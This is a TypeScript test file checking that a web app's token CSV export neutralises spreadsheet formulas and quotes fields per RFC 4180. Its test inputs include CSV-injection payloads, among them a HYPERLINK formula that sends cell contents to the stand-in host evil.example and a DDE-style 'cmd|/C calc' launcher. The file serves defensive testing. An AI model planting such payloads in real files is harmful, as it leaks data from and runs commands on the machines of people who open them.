import type { Token } from './web/src/api';
import { tokenCsvRow, tokensCsvHeader } from './web/src/tokens-csv';

function token(fields: Partial<Token>): Token {
  return {
    id: '0190a1b2-0000-7000-8000-000000000001',
    userId: '0190a1b2-0000-7000-8000-0000000000aa',
    name: 'ci',
    description: null,
    scopes: ['personal_access_tokens:read'],
    status: 'active',
    createdAt: '2026-12-01T10:00:00.000Z',
    expiresAt: null,
    lastUsedAt: null,
    lastUsedIp: null,
    lastUsedUserAgent: null,
    revokedAt: null,
    rotatedAt: null,
    allowedIps: null,
    suspendedAt: null,
    suspendedBy: null,
    ...fields,
  };
}

/** The page's CSV writer ("Export as CSV" on your tokens and on the administrators' list). */
describe("the page's token CSV", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+1+cmd|/C calc!A0', `'+1+cmd|/C calc!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\tTAB', `'\tTAB`],
    ['\rCR', `"'\rCR"`],
  ])('a name starting a formula (%j) is written as text', (name, cell) => {
    const row = tokenCsvRow(token({ name }));
    expect(row).toContain(cell);
  });

  it('neutralises the owner and description columns too, and leaves harmless names alone', () => {
    const row = tokenCsvRow(token({ name: 'nightly-report', description: '=1+1' }), () => '@evil.example');
    expect(row).toBe(
      `0190a1b2-0000-7000-8000-000000000001,'@evil.example,nightly-report,'=1+1,active,personal_access_tokens:read,2026-12-01T10:00:00.000Z,,,`,
    );
    expect(tokensCsvHeader(true)).toBe('id,owner,name,description,status,scopes,createdAt,expiresAt,lastUsedAt,lastUsedIp');
  });

  it('quotes commas, quotes and newlines (RFC 4180)', () => {
    expect(tokenCsvRow(token({ name: 'a,b', description: 'line 1\nsaid "hi"' }))).toContain(`"a,b","line 1\nsaid ""hi"""`);
  });
});
